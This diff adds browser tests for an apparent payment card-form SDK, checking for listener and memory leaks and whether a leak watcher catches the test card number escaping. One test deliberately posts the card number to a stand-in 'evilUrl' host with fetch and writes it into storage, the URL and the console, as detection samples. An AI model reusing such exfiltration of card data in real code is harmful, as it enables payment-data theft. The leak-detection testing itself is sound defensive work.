@@ -1,0 +1,121 @@
+import type { CDPSession, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest'
+import { setAttackStage, type AttackStage } from '../../testing/attack-stage.ts'
+import { mountCard, tokenize, typeCard } from '../../testing/shop-page.ts'
+import { watchPages } from '../../testing/watch-pages.ts'
+
+vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })
+
+let stage: AttackStage
+beforeAll(async () => {
+  stage = await setAttackStage()
+})
+afterEach(() => stage.clear())
+afterAll(() => stage.close())
+
+const stopsListening = {
+  file: 'page/await-hello.ts',
+  code: "window.addEventListener('message', hear, { signal })",
+  instead: "window.addEventListener('message', hear)",
+}
+
+test('destroy() leaves no listener on the page, its document or its body, whenever it is called', async () => {
+  const grown = async (page: Page): Promise<number> => {
+    const cdp = await page.context().newCDPSession(page)
+    const before = await listeners(cdp)
+    await mountCard(page)
+    await page.evaluate(() => window.card.destroy())
+    await page.evaluate(async () => {
+      const checkout = await window.Tillwright.init({ publishableKey: 'test_pk_shop' })
+      checkout.card().mount('#card').destroy() // before the frame has said hello
+    })
+    return (await listeners(cdp)) - before
+  }
+  expect(await grown(await stage.open())).toBe(0)
+  expect(await grown(await stage.openWithout(stopsListening))).toBe(2)
+})
+
+test('200 rounds of mounting and destroying leave nothing behind', async () => {
+  const page = await stage.open()
+  const cdp = await page.context().newCDPSession(page)
+  await mountRounds(page, 20) // what is compiled and cached once is there before the measurement
+  const before = await footprint(cdp)
+  await mountRounds(page, 200)
+  const { documents, nodes, jsEventListeners, heapBytes } = await footprint(cdp)
+  expect(documents - before.documents).toBeLessThan(5)
+  expect(nodes - before.nodes).toBeLessThan(100)
+  expect(jsEventListeners - before.jsEventListeners).toBeLessThan(20)
+  expect(heapBytes - before.heapBytes).toBeLessThan(1_000_000)
+
+  const leaky = await stage.openWithout(stopsListening)
+  const leakyCdp = await leaky.context().newCDPSession(leaky)
+  await mountRounds(leaky, 10)
+  const leakyBefore = await footprint(leakyCdp)
+  await mountRounds(leaky, 40)
+  expect((await footprint(leakyCdp)).jsEventListeners - leakyBefore.jsEventListeners).toBeGreaterThanOrEqual(40)
+})
+
+test('the watch over all these tests sees a number wherever a page lets it out, and every complaint', async () => {
+  const page = await stage.openWithout()
+  const watch = await watchPages(page.context())
+  await typeCard(await mountCard(page))
+  expect(await watch.leaks(['4242424242424242'])).toEqual([])
+  expect(watch.takeComplaints()).toEqual([])
+  await page.evaluate((url) => {
+    console.log('the number is 4242 4242 4242 4242')
+    window.heard.push('4242424242424242')
+    localStorage.setItem('card', btoa('4242424242424242'))
+    history.replaceState(null, '', '/?card=4242424242424242')
+    setTimeout(() => {
+      throw new Error('4242-4242-4242-4242')
+    })
+    document.body.append('4242424242424242')
+    return fetch(`${url}/missing`, { method: 'POST', mode: 'no-cors', body: '4242424242424242' })
+  }, stage.evilUrl)
+  const places = ['a request for /missing', 'an address', 'an error', 'messages and events', 'storage', 'the console']
+  await expect
+    .poll(async () => (await watch.leaks(['4242424242424242'])).map((leak) => leak.replace(/.* in /, '')).toSorted())
+    .toEqual([...places, "the shop's page"])
+  expect(watch.takeComplaints().join()).toContain('4242-4242-4242-4242')
+  expect(await tokenize(page)).toMatchObject({ serviceToken: 'service-token' })
+})
+
+/** Mounts and destroys card forms, ten side by side, each once it is ready. */
+async function mountRounds(page: Page, count: number): Promise<void> {
+  await page.evaluate(async (rounds) => {
+    const checkout = await window.Tillwright.init({ publishableKey: 'test_pk_shop' })
+    for (let done = 0; done < rounds; done += 10) {
+      const round = Array.from({ length: 10 }, async () => {
+        const card = checkout.card()
+        const ready = new Promise<void>((resolve) => void card.on('ready', resolve))
+        card.mount('#card')
+        await ready
+        card.destroy()
+      })
+      await Promise.all(round)
+    }
+    // The page's own notes of what it heard, and the ports that they came through, are no leak of the checkout.
+    window.heard.length = 0
+    window.ports.length = 0
+  }, count)
+}
+
+/** What is alive in the page after its garbage has been collected. */
+async function footprint(
+  cdp: CDPSession,
+): Promise<Record<'documents' | 'nodes' | 'jsEventListeners' | 'heapBytes', number>> {
+  // What one collection frees of the page lets the next free what it held.
+  for (let collections = 0; collections < 3; collections += 1) await cdp.send('HeapProfiler.collectGarbage')
+  const { documents, nodes, jsEventListeners } = await cdp.send('Memory.getDOMCounters')
+  const { usedSize } = await cdp.send('Runtime.getHeapUsage')
+  return { documents, nodes, jsEventListeners, heapBytes: usedSize }
+}
+
+/** How many listeners there are on what outlives a card form. */
+async function listeners(cdp: CDPSession): Promise<number> {
+  const counts = ['window', 'document', 'document.body', "document.querySelector('#card')"].map(async (expression) => {
+    const { result } = await cdp.send('Runtime.evaluate', { expression })
+    return (await cdp.send('DOMDebugger.getEventListeners', { objectId: result.objectId ?? '' })).listeners.length
+  })
+  return (await Promise.all(counts)).reduce((sum, count) => sum + count, 0)
+}
